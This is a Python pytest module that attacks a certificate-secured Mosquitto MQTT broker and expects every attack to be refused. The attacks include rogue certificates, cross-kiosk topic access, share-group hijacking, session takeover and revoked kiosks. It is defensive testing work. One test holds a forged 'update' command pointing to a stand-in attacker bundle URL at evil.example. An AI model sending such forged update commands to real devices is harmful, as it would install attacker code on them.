"""Attacks on the secure broker that must fail (issue 10, item 8, the broker's part).

One real Mosquitto for the module, started from `hub.pki.broker_config`'s files
(`TlsMosquittoProcess`) with a PKI made by `hub.pki.pki`; every client is paho over TLS with
a certificate. docs/security.md records what each test measured.
"""

from __future__ import annotations

import queue
import ssl
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import paho.mqtt.client as mqtt
import pytest
from paho.mqtt.enums import CallbackAPIVersion

from contract.topics import topic
from hub.lab.broker_process import BrokerUnavailable, TlsMosquittoProcess
from hub.pki.kiosk_certs import enroll_kiosk, revoke_kiosk
from hub.pki.pki import hub_worker_identity, init_pki
from hub.pki.pki_files import PkiPaths

QUIET_S = 0.4  # Probe.received()'s default wait; "nothing delivered" is proven by a marker


@dataclass
class Identity:
    ca: Path
    cert: Path | None
    key: Path | None


@dataclass
class Probe:
    """A paho client that records what the broker tells it."""

    client: mqtt.Client
    connack: object = None
    disconnect: object = None
    connected: threading.Event = field(default_factory=threading.Event)
    ended: threading.Event = field(default_factory=threading.Event)
    messages: queue.Queue = field(default_factory=queue.Queue)
    subacks: queue.Queue = field(default_factory=queue.Queue)
    pubacks: dict = field(default_factory=dict)
    puback_seen: threading.Condition = field(default_factory=threading.Condition)

    def publish(self, name: str, payload: bytes = b"{}", timeout: float = 3.0) -> object:
        """QoS 1 publish; the PUBACK's reason code (None if none came)."""
        info = self.client.publish(name, payload, qos=1)
        with self.puback_seen:
            self.puback_seen.wait_for(
                lambda: info.mid in self.pubacks or self.ended.is_set(), timeout
            )
        return self.pubacks.get(info.mid)

    def subscribe(self, name: str, timeout: float = 3.0) -> object:
        self.client.subscribe(name, qos=1)
        return self.subacks.get(timeout=timeout)[0]

    def received(
        self, timeout: float = QUIET_S, count: int | None = None
    ) -> list[tuple[str, bytes]]:
        """Messages delivered within `timeout` (stop early once `count` have come)."""
        got: list[tuple[str, bytes]] = []
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0 and (count is None or len(got) < count):
            try:
                got.append(self.messages.get(timeout=left))
            except queue.Empty:
                break
        return got

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


def up_to_a_marker(receiver: Probe, sender: Probe, name: str) -> list[tuple[str, bytes]]:
    """What `receiver` gets up to a marker `sender` publishes on `name` (which `receiver`
    subscribes to) after the thing that must not arrive. The broker routes a message
    before it PUBACKs it and queues each subscriber's messages in order, so anything it
    had routed to `receiver` before arrives first: no quiet window to guess."""
    assert sender.publish(name, b"marker").value < 0x80
    got: list[tuple[str, bytes]] = []
    while (name, b"marker") not in got:
        more = receiver.received(5.0, count=1)
        assert more, f"the marker on {name} never came; got {got}"
        got += more
    return got


def connect(
    broker: TlsMosquittoProcess, who: Identity, client_id: str, timeout: float = 3.0
) -> Probe:
    """Connect `who` and wait for CONNACK or the end of the connection."""
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv5)
    client.tls_set(
        ca_certs=str(who.ca),
        certfile=str(who.cert) if who.cert else None,
        keyfile=str(who.key) if who.key else None,
    )
    probe = Probe(client)

    def on_connect(_c, _u, _f, reason, _p):
        probe.connack = reason
        if not reason.is_failure:
            probe.connected.set()
        else:
            probe.ended.set()

    def on_disconnect(_c, _u, _f, reason, _p):
        probe.disconnect = reason
        probe.ended.set()
        with probe.puback_seen:
            probe.puback_seen.notify_all()

    def on_publish(_c, _u, mid, reason, _p):
        with probe.puback_seen:
            probe.pubacks[mid] = reason
            probe.puback_seen.notify_all()

    client.on_connect = on_connect
    client.on_disconnect = on_disconnect
    client.on_connect_fail = lambda *_: probe.ended.set()
    client.on_publish = on_publish
    client.on_message = lambda _c, _u, m: probe.messages.put((m.topic, m.payload))
    client.on_subscribe = lambda _c, _u, _mid, codes, _p: probe.subacks.put(codes)
    try:
        client.connect("127.0.0.1", broker.port, keepalive=30)
    except (ssl.SSLError, OSError):
        probe.ended.set()
        return probe
    client.loop_start()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and not (probe.connected.is_set() or probe.ended.is_set()):
        time.sleep(0.01)
    if not probe.connected.is_set():
        client.loop_stop()
    return probe


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    root = tmp_path_factory.mktemp("pki-world")
    pki = init_pki(root / "pki")
    ids: dict[str, Identity] = {"hub": Identity(pki.ca_cert, pki.hub_cert, pki.hub_key)}
    for kiosk in ("k1", "k2", "k3", "k-revoked"):
        bundle = enroll_kiosk(pki.root, kiosk, "capital", root / kiosk)
        ids[kiosk] = Identity(bundle.ca, bundle.cert, bundle.key)
    rogue = init_pki(root / "rogue-pki")  # another CA, issuing a cert with CN k1
    bundle = enroll_kiosk(rogue.root, "k1", "capital", root / "rogue-k1")
    ids["rogue-k1"] = Identity(pki.ca_cert, bundle.cert, bundle.key)
    ids["anonymous"] = Identity(pki.ca_cert, None, None)
    ids["broker-cert"] = Identity(pki.ca_cert, pki.server_cert, pki.server_key)
    try:
        broker = TlsMosquittoProcess(pki=pki.root).start()
    except BrokerUnavailable as exc:
        pytest.fail(f"tests need Mosquitto: {exc}")
    yield {"broker": broker, "ids": ids, "pki": pki}
    broker.close()


@pytest.fixture
def clients(world: dict) -> Iterator:
    opened: list[Probe] = []

    def open_client(name: str, client_id: str | None = None) -> Probe:
        probe = connect(world["broker"], world["ids"][name], client_id or f"kiosk-{name}")
        opened.append(probe)
        return probe

    yield open_client
    for probe in opened:
        probe.close()


def test_enrolled_kiosk_publishes_its_txn_and_receives_its_ack(clients) -> None:
    hub = clients("hub", "hub-1")
    k1 = clients("k1")
    assert k1.connected.is_set() and hub.connected.is_set()
    assert not k1.subscribe(topic("k1", "ack")).is_failure
    assert not hub.subscribe(f"$share/hub/{topic('+', 'txn')}").is_failure

    assert k1.publish(topic("k1", "txn"), b"txn-1").value == 0
    assert hub.received(2.0, count=1) == [(topic("k1", "txn"), b"txn-1")]
    assert hub.publish(topic("k1", "ack"), b"ack-1").value == 0
    assert k1.received(2.0, count=1) == [(topic("k1", "ack"), b"ack-1")]


def test_connection_without_a_client_certificate_is_refused(clients) -> None:
    probe = clients("anonymous")
    assert not probe.connected.is_set()


def test_certificate_from_another_ca_is_refused_even_with_a_kiosk_cn(clients) -> None:
    probe = clients("rogue-k1")
    assert not probe.connected.is_set()


def test_the_brokers_server_certificate_cannot_log_in_as_a_client(clients) -> None:
    probe = clients("broker-cert")
    assert not probe.connected.is_set()


def test_kiosk_cannot_publish_on_another_kiosks_topics(clients) -> None:
    hub = clients("hub", "hub-1")
    hub.subscribe(topic("+", "txn"))
    hub.subscribe(topic("+", "state"))
    k2 = clients("k2")
    assert k2.publish(topic("k1", "txn"), b"forged").value == 0x87
    assert k2.publish(topic("k1", "state"), b"forged").value == 0x87
    marker = topic("k2", "txn")
    assert up_to_a_marker(hub, k2, marker) == [(marker, b"marker")]


def test_kiosk_subscribing_to_another_kiosks_answers_is_refused(clients) -> None:
    k2 = clients("k2")
    for name in (topic("k1", "ack"), topic("+", "resp"), "#", topic("k2", "#")):
        assert k2.subscribe(name).value == 0x87, name
    hub = clients("hub", "hub-1")
    assert hub.publish(topic("k1", "ack"), b"ack").value == 0x10  # no matching subscribers
    assert hub.publish(topic("k1", "resp"), b"resp").value == 0x10
    assert not k2.subscribe(topic("k2", "ack")).is_failure  # its own: the marker's way in
    assert up_to_a_marker(k2, hub, topic("k2", "ack")) == [(topic("k2", "ack"), b"marker")]


def test_kiosk_in_the_hubs_share_group_receives_nothing(clients) -> None:
    k2 = clients("k2")
    assert k2.subscribe(f"$share/hub/{topic('+', 'txn')}").value == 0x87
    assert k2.subscribe(f"$share/evil/{topic('+', 'txn')}").value == 0x87
    k1 = clients("k1")
    for n in range(4):
        assert k1.publish(topic("k1", "txn"), b"txn-%d" % n).value < 0x80  # routed by now
    assert not k2.subscribe(topic("k2", "ack")).is_failure
    hub = clients("hub", "hub-1")
    assert up_to_a_marker(k2, hub, topic("k2", "ack")) == [(topic("k2", "ack"), b"marker")]


def test_kiosk_in_the_hubs_share_group_takes_no_message_from_the_hub(clients) -> None:
    hub = clients("hub", "hub-1")
    hub.subscribe(f"$share/hub/{topic('+', 'txn')}")
    k2 = clients("k2")
    assert k2.subscribe(f"$share/hub/{topic('+', 'txn')}").value == 0x87
    k1 = clients("k1")
    for n in range(10):
        k1.publish(topic("k1", "txn"), b"txn-%d" % n)
    assert len(hub.received(2.0, count=10)) == 10


def test_kiosk_can_neither_order_nor_read_nor_answer_another_kiosks_updates(clients) -> None:
    """An `update` command is code to install: k2 may not send one to k1, read k1's (the
    bundle's URL, a signed command to replay), or forge k1's result or the telemetry that
    carries its `last_update`. Each refusal is the broker's PUBACK/SUBACK 0x87; that
    nothing got through is shown by a genuine message, sent after the refusals, arriving
    first (one subscriber's messages come in the order the broker took them)."""
    update = b'{"cmd": "update", "cmd_id": "evil-1", "bundle_url": "https://evil.example/k.tar.gz", '
    update += b'"sha256": "' + b"a" * 64 + b'"}'
    result = b'{"cmd_id": "evil-1", "ok": true, "detail": {"update": "started"}}'
    hub = clients("hub", "hub-1")
    for leaf in ("cmd/result", "telemetry"):
        assert not hub.subscribe(topic("k1", leaf)).is_failure
    k1 = clients("k1")
    assert not k1.subscribe(topic("k1", "cmd")).is_failure
    k2 = clients("k2")
    assert k2.subscribe(topic("k1", "cmd")).value == 0x87
    assert k2.publish(topic("k1", "cmd"), update).value == 0x87
    assert k2.publish(topic("k1", "cmd/result"), result).value == 0x87
    assert k2.publish(topic("k1", "telemetry"), b'{"last_update": {"result": "ok"}}').value == 0x87
    assert hub.publish(topic("k1", "cmd"), b"genuine").value == 0
    assert k1.received(2.0, count=1) == [(topic("k1", "cmd"), b"genuine")]
    assert k1.publish(topic("k1", "cmd/result"), b"genuine").value == 0
    assert hub.received(2.0, count=1) == [(topic("k1", "cmd/result"), b"genuine")]


@pytest.mark.parametrize("leaf", ["ack", "resp", "cmd"])
def test_kiosk_cannot_write_its_own_answers(clients, leaf: str) -> None:
    k1 = clients("k1")
    k1.subscribe(topic("k1", leaf))
    assert k1.publish(topic("k1", leaf), b"forged").value == 0x87
    hub = clients("hub", "hub-1")
    assert up_to_a_marker(k1, hub, topic("k1", leaf)) == [(topic("k1", leaf), b"marker")]


def test_client_id_follows_the_certificate_so_no_one_else_takes_a_kiosks_session(
    clients, world: dict
) -> None:
    k1 = clients("k1", "kiosk-k1")
    # k2 asks for k1's client id: the broker names it k2 (its CN), so k1 stays online.
    intruder = clients("k2", "kiosk-k1")
    assert intruder.connected.is_set()
    # A takeover would close k1 before the broker answers the intruder's CONNECT: a
    # SUBACK on k1's connection after that proves it still stands (no quiet window).
    assert not k1.subscribe(topic("k1", "ack")).is_failure
    assert not k1.ended.is_set()
    # The same certificate under another client id *is* k1: the broker renames it k1, the
    # newer connection takes the session over and the older one is closed (Mosquitto
    # 2.0.11 closes the socket; paho reports "Unspecified error", not 0x8E).
    again = clients("k1", "another-id")
    assert again.connected.is_set()
    assert k1.ended.wait(2.0)
    assert "Client k1 already connected, closing old connection." in world["broker"].log_text()


def test_message_over_16_kib_is_refused(clients) -> None:
    hub = clients("hub", "hub-1")
    hub.subscribe(topic("k3", "txn"))
    k3 = clients("k3")
    assert k3.publish(topic("k3", "txn"), b"x" * 16384).value < 0x80
    assert hub.received(2.0, count=1) == [(topic("k3", "txn"), b"x" * 16384)]
    reason = k3.publish(topic("k3", "txn"), b"x" * 16385)
    assert reason is None or reason.is_failure  # paho drops the link on Mosquitto's PUBACK
    k3_again = clients("k3")
    assert up_to_a_marker(hub, k3_again, topic("k3", "txn")) == [(topic("k3", "txn"), b"marker")]


def test_revoked_kiosk_is_refused_after_the_broker_reloads_its_crl(clients, world: dict) -> None:
    broker: TlsMosquittoProcess = world["broker"]
    first = clients("k-revoked")
    assert first.connected.is_set()
    first.close()
    revoke_kiosk(world["pki"].root, "k-revoked")
    broker.refresh_crl()
    broker.reload()
    deadline = time.monotonic() + 3.0
    while time.monotonic() < deadline:
        probe = clients("k-revoked")
        if not probe.connected.is_set():
            break
        time.sleep(0.1)
    assert not probe.connected.is_set()
    assert clients("k1").connected.is_set()  # the others are unaffected


def test_hub_reads_every_kiosks_txn_through_its_share_and_writes_acks(clients) -> None:
    hub = clients("hub", "hub-1")
    assert not hub.subscribe(f"$share/hub/{topic('+', 'txn')}").is_failure
    k1, k2 = clients("k1"), clients("k2")
    k1.subscribe(topic("k1", "ack"))
    k2.subscribe(topic("k2", "ack"))
    assert k1.publish(topic("k1", "txn"), b"t1").value == 0
    assert k2.publish(topic("k2", "txn"), b"t2").value == 0
    got = sorted(hub.received(2.0, count=2))
    assert got == [(topic("k1", "txn"), b"t1"), (topic("k2", "txn"), b"t2")]
    assert hub.publish(topic("k1", "ack"), b"a1").value == 0
    assert hub.publish(topic("k2", "ack"), b"a2").value == 0
    assert k1.received(2.0, count=1) == [(topic("k1", "ack"), b"a1")]
    assert k2.received(2.0, count=1) == [(topic("k2", "ack"), b"a2")]


def test_pki_files_are_private(world: dict) -> None:
    paths: PkiPaths = world["pki"]
    for path in paths.root.iterdir():
        assert path.stat().st_mode & 0o077 == 0, path


def test_revoked_kiosks_open_connection_is_cut_when_the_broker_expels_it(tmp_path: Path) -> None:
    pki = init_pki(tmp_path / "pki")
    bundle = enroll_kiosk(pki.root, "k1", "capital", tmp_path / "k1")
    with TlsMosquittoProcess(pki=pki.root) as broker:
        k1 = connect(broker, Identity(bundle.ca, bundle.cert, bundle.key), "kiosk-k1")
        try:
            assert k1.connected.is_set()
            revoke_kiosk(pki.root, "k1")
            broker.expel("k1")
            assert k1.ended.wait(3.0)
            # paho reconnects with the same certificate (the CRL is read at the broker's
            # next start): connected, it may do nothing at all.
            again = connect(broker, Identity(bundle.ca, bundle.cert, bundle.key), "kiosk-k1")
            try:
                assert again.subscribe(topic("k1", "ack")).value == 0x87
                assert again.publish(topic("k1", "txn"), b"after revocation").value == 0x87
            finally:
                again.close()
        finally:
            k1.close()
        broker.stop()
        broker.start()  # the configuration is written again: the new CRL is in force
        assert not connect(broker, Identity(bundle.ca, bundle.cert, bundle.key), "k1").connected.is_set()


def test_kiosk_enrolled_while_the_broker_runs_is_admitted_live(tmp_path: Path) -> None:
    pki = init_pki(tmp_path / "pki")
    with TlsMosquittoProcess(pki=pki.root) as broker:
        bundle = enroll_kiosk(pki.root, "k9", "capital", tmp_path / "k9")
        k9 = connect(broker, Identity(bundle.ca, bundle.cert, bundle.key), "k9")
        try:
            assert k9.publish(topic("k9", "txn"), b"before").value == 0x87
            broker.admit("k9")
            assert k9.publish(topic("k9", "txn"), b"after").value < 0x80
            assert not k9.subscribe(topic("k9", "ack")).is_failure
        finally:
            k9.close()


def test_each_hub_worker_has_its_own_identity_with_the_hubs_rights(tmp_path: Path) -> None:
    pki = init_pki(tmp_path / "pki")
    bundle = enroll_kiosk(pki.root, "k1", "capital", tmp_path / "k1")
    with TlsMosquittoProcess(pki=pki.root) as broker:
        worker2 = hub_worker_identity(pki.root, "2")  # issued after the broker started
        broker.admit_hub_worker(worker2.name)
        workers = [
            connect(broker, Identity(w.ca, w.cert, w.key), w.name)
            for w in (hub_worker_identity(pki.root, "1"), worker2)
        ]
        k1 = connect(broker, Identity(bundle.ca, bundle.cert, bundle.key), "k1")
        try:
            for worker in workers:
                assert not worker.subscribe(f"$share/hub/{topic('+', 'txn')}").is_failure
            for n in range(6):
                assert k1.publish(topic("k1", "txn"), b"t%d" % n).value == 0
            got = [len(w.received(1.0, count=3)) for w in workers]
            assert sum(got) == 6 and min(got) > 0  # both connected, sharing the load
        finally:
            for probe in (*workers, k1):
                probe.close()
